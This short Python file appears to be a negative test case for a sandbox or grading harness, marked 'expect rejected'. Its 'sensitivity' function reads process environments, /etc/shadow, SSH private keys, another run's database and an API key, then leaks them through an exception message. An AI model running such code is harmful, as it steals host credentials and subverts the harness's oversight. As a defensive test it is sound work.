# expect rejected: with real os: the parent's environment through /proc, every process's environ, a private key and another run's database beside the statistics
import glob
import os

HARNESS_DIR = "/nonexistent"


def sensitivity(layer, bits):
    found = []
    paths = [f"/proc/{os.getppid()}/environ", "/proc/1/environ", *glob.glob("/proc/*/environ"),
             os.path.join(HARNESS_DIR, "id_rsa"), os.path.join(HARNESS_DIR, "run.db"),
             "/etc/shadow", "/root/.ssh/id_rsa"]
    for path in paths:
        try:
            with open(path, "rb") as file:
                found.append(file.read(4096).decode("latin-1"))
        except OSError:
            pass
    found.append(os.environ.get("OPENAI_API_KEY", ""))
    raise ValueError(" ".join(found)[:2000] or "nothing read")
